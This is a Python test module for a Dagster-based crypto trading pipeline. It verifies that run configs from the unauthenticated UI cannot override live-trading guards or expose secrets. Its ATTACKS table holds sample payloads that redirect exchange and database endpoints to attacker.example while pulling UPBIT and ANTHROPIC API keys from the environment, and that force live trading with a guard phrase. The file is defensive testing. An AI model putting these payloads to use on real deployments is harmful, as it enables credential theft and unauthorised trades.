"""The launchpad cannot raise risk: no run config reaches a guard, a secret, an endpoint or ``{"env": ...}``.

The Dagster UI has no login, so whatever a run config can set, anyone who reaches the UI can set.
"""

from __future__ import annotations

import dagster as dg
import pytest
from dagster._config import ConfigType, ConfigTypeKind

from coinpilot_pipelines.emulator.upbit_exchange import DEFAULT_KEYS

from .dagster_helpers import QUIET, project_definitions
from .trading_helpers import stored_market

ACCESS_KEY, SECRET_KEY = next(iter(DEFAULT_KEYS.items()))
GUARD_VARIABLES = ("LIVE_TRADING_ENABLED", "UPBIT_TRADE_MODE", "LIVE_GUARD_PHRASE", "PAPER_POLICY_PROFILE")

# What a hostile user of the UI would try (each seen to work against an earlier version).
ATTACKS = {
    "guard override": {"resources": {"guards": {"config": {
        "live_trading_enabled": "true", "trade_mode": "live", "guard_phrase": "I_CONFIRM_LIVE_TRADING",
        "paper_policy_profile": "prod"}}}},
    "test mode": {"resources": {"guards": {"config": {"trade_mode": "test"}}}},
    "Upbit redirect": {"resources": {"upbit": {"config": {
        "base_url": "http://attacker.example", "access_key": {"env": "UPBIT_ACCESS_KEY"},
        "secret_key": {"env": "UPBIT_SECRET_KEY"}}}}},
    "analyst key": {"resources": {"analyst": {"config": {"api_key": {"env": "ANTHROPIC_API_KEY"}}}}},
    "database URL": {"resources": {"database": {"config": {"url": "postgresql://attacker.example/db"}}}},
    "news feeds": {"resources": {"news": {"config": {"feeds": {"env": "UPBIT_SECRET_KEY"}}}}},
    "market base_url": {"resources": {"market_data": {"config": {"base_url": "http://user:token@attacker.example"}}}},
    "op field from env": {"ops": {"collect_signals": {"config": {"up_to": {"env": "UPBIT_SECRET_KEY"}}}}},
    "mode from env": {"ops": {"resolve_trading_mode": {"config": {"mode": {"env": "UPBIT_TRADE_MODE"}}}}},
    "io manager path from env": {"resources": {"io_manager": {"config": {"base_dir": {"env": "UPBIT_SECRET_KEY"}}}}},
}


def env_accepting_fields(config_type: ConfigType, path: tuple[str, ...] = ()) -> list[str]:
    """Every place under ``config_type`` that takes ``{"env": NAME}`` or an arbitrary value."""
    kind = config_type.kind
    if kind == ConfigTypeKind.SCALAR_UNION:
        selector = config_type.non_scalar_type
        found = [".".join(path)] if selector.kind == ConfigTypeKind.SELECTOR and "env" in selector.fields else []
        return found + env_accepting_fields(config_type.scalar_type, path)
    if kind == ConfigTypeKind.ANY:
        return [".".join(path) + " (accepts anything)"]
    # A permissive shape (an asset job's `ops`) takes keys it does not know, but no op reads them.
    if kind in (ConfigTypeKind.STRICT_SHAPE, ConfigTypeKind.PERMISSIVE_SHAPE, ConfigTypeKind.SELECTOR):
        return [hit for name, field in config_type.fields.items()
                for hit in env_accepting_fields(field.config_type, (*path, name))]
    if kind in (ConfigTypeKind.ARRAY, ConfigTypeKind.NONEABLE, ConfigTypeKind.MAP):
        return env_accepting_fields(config_type.inner_type, (*path, "[]"))
    return []


@pytest.fixture
def definitions(sqlite_url: str, emulator) -> dg.Definitions:  # noqa: ANN001
    return project_definitions(sqlite_url, emulator.url)


def test_no_op_or_resource_field_in_any_job_accepts_an_environment_source(definitions: dg.Definitions) -> None:
    jobs = list(definitions.resolve_all_job_defs())
    assert {"__ASSET_JOB", "order_executor_job", "retrain_job", "gap_repair_job", "news_poll"} <= {j.name for j in jobs}
    for job in jobs:
        schema = job.run_config_schema.config_type
        for section in ("ops", "resources"):
            if section in schema.fields:
                assert env_accepting_fields(schema.fields[section].config_type, (section,)) == [], job.name


def test_only_a_safer_mode_is_left_and_every_attack_is_refused(definitions: dg.Definitions) -> None:
    job = definitions.resolve_job_def("order_executor_job")
    dg.validate_run_config(job, {})  # the control: an empty run config,
    dg.validate_run_config(job, {"ops": {"resolve_trading_mode": {"config": {"mode": "shadow"}}}})  # a safer mode
    for name, attack in ATTACKS.items():
        with pytest.raises(dg.DagsterInvalidConfigError):
            dg.validate_run_config(job, attack)
            pytest.fail(f"accepted: {name}")
    asset_job = definitions.resolve_implicit_global_asset_job_def()
    for name in ("database URL", "news feeds", "market base_url", "io manager path from env"):
        with pytest.raises(dg.DagsterInvalidConfigError):
            dg.validate_run_config(asset_job, ATTACKS[name])


def test_no_attack_gets_an_order_to_the_exchange(sqlite_url: str, emulator, monkeypatch: pytest.MonkeyPatch) -> None:  # noqa: ANN001
    # As seen: only the two Upbit keys in the environment, none of the guard variables.
    for name in GUARD_VARIABLES:
        monkeypatch.delenv(name, raising=False)
    monkeypatch.setenv("UPBIT_ACCESS_KEY", ACCESS_KEY)
    monkeypatch.setenv("UPBIT_SECRET_KEY", SECRET_KEY)
    stored_market(sqlite_url, emulator.url, minutes=30)
    job = project_definitions(sqlite_url, emulator.url, COINPILOT_SYMBOLS="BTCUSDT").resolve_job_def("order_executor_job")
    instance = dg.DagsterInstance.ephemeral()
    for attack in ATTACKS.values():
        with pytest.raises(dg.DagsterInvalidConfigError):
            job.execute_in_process(run_config={**QUIET, **attack}, instance=instance)
    result = job.execute_in_process(run_config={**QUIET, "ops": {"resolve_trading_mode": {"config": {"mode": "live"}}}},
                                    instance=instance)
    assert result.success
    assert instance.get_run_by_id(result.run_id).tags["coinpilot/effective_mode"] == "shadow"
    assert not [route for route in emulator.stats()["by_route"] if route.split(" ")[1].startswith("/v1/orders")]
